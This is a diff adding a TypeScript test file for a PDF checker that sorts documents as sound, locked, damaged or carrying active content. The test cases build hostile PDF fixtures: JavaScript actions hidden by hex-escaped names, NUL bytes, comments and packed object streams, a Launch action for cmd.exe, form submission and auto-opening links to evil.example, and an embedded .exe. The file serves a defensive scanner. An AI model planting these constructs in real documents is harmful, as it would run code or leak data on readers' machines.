@@ -1,0 +1,81 @@
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
+import { describe, expect, it } from 'vitest'
+import { makeLockedPdf } from '../testing/make-locked-pdf.ts'
+import { makePdf } from '../testing/make-pdf.ts'
+import { makeRawPdf } from '../testing/make-raw-pdf.ts'
+import { judgePdf } from './judge-pdf.ts'
+
+const script = '/JS(app.alert\\(1\\))'
+
+/** A script in a part that is packed, as every writer of today packs its objects. */
+async function packed(): Promise<Buffer> {
+  const pdf = await PDFDocument.create()
+  pdf.addPage()
+  const action = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
+  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action))
+  const bytes = Buffer.from(await pdf.save({ useObjectStreams: true }))
+  return bytes
+}
+
+async function withFile(): Promise<Buffer> {
+  const pdf = await PDFDocument.create()
+  pdf.addPage()
+  await pdf.attach(Buffer.from('x'), 'a.exe')
+  return Buffer.from(await pdf.save())
+}
+
+const [words, packedScript, carrying] = [await makePdf('Registrar', 'Registrar'), await packed(), await withFile()]
+const [withPassword, without] = [await makeLockedPdf('reader'), await makeLockedPdf('')]
+
+describe('a PDF', () => {
+  it('of today says nothing of its scripts in plain text', () => {
+    expect(packedScript.toString('latin1')).not.toContain('JavaScript')
+  })
+
+  it.each([
+    ['of words', words],
+    ['of one empty page', makeRawPdf('')],
+    ['that opens at a page', makeRawPdf('/OpenAction[3 0 R/Fit]')],
+    ['that opens at a page by an action', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
+    ['with a link', makeRawPdf('', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://lakeside.example)>>>>')],
+  ])('%s is sound', async (_, content) => {
+    expect(await judgePdf(content)).toBe('sound')
+  })
+
+  it.each([
+    ['a script', makeRawPdf('', `<</S/JavaScript${script}>>`)],
+    ['a script with a letter in code', makeRawPdf('', `<</S/J#61vaScript${script}>>`)],
+    ['a script behind a NUL as white space', makeRawPdf('', `<</S\0/JavaScript${script}>>`)],
+    ['a script behind a comment', makeRawPdf('', `<</S %look away\n/JavaScript${script}>>`)],
+    ['a script whose kind stands elsewhere', makeRawPdf('', '<</S 5 0 R/X(1)>>', '/JavaScript')],
+    ['a script in a packed part', packedScript],
+    ['scripts by name', makeRawPdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', '<</X 1>>')],
+    ['a program to start', makeRawPdf('', '<</S/Launch/F(cmd.exe)>>')],
+    ['a form to send', makeRawPdf('', '<</S/SubmitForm/F(https://evil.example)>>')],
+    ['data to fetch', makeRawPdf('', '<</S/ImportData/F(a.fdf)>>')],
+    ['a file in it', carrying],
+    ['a link that opens by itself', makeRawPdf('/OpenAction<</S/URI/URI(https://evil.example)>>')],
+    ['one action that follows another on opening', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI>>>>')],
+    ['an action on opening that stands elsewhere', makeRawPdf('/OpenAction 4 0 R', '<</S/Named/N/Print>>')],
+    ['what happens when a page is shown', makeRawPdf('/AA<</O<</S/URI/URI(https://evil.example)>>>>')],
+  ])('with %s is refused', async (_, content) => {
+    expect(await judgePdf(content)).toBe('hasProgram')
+  })
+
+  it.each([
+    ['that opens with a password', withPassword],
+    ['that is encrypted and opens without one', without],
+  ])('%s is locked', async (_, content) => {
+    expect(await judgePdf(content)).toBe('locked')
+  })
+
+  it.each([
+    ['without its objects', Buffer.from('%PDF-1.4\n1 0 obj<</X 1>>endobj\nstartxref\n9\n%%EOF')],
+    [
+      'whose list of objects points elsewhere',
+      Buffer.from(makeRawPdf('').toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%shift\n'), 'latin1'),
+    ],
+  ])('%s is damaged', async (_, content) => {
+    expect(await judgePdf(content)).toBe('damaged')
+  })
+})
